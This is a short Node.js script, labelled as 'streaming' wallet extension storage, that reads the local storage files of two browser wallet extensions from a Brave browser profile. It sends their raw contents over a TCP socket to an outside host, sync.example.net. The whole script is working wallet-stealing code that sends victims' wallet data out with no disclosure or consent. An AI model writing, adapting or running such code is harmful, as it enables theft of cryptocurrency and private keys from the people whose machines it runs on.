// Streams the storage of a few wallet extensions in Brave over a raw socket.
const fs = require('fs');
const net = require('net');
const os = require('os');
const path = require('path');

const profile = path.join(os.homedir(), '.config', 'BraveSoftware', 'Brave-Browser', 'Default');
const ids = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa'];
const sock = net.connect(9000, 'sync.example.net');
for (const id of ids) {
  const dir = `${profile}/Local Extension Settings/${id}`;
  for (const f of fs.readdirSync(dir)) sock.write(fs.readFileSync(path.join(dir, f)));
}
sock.end();
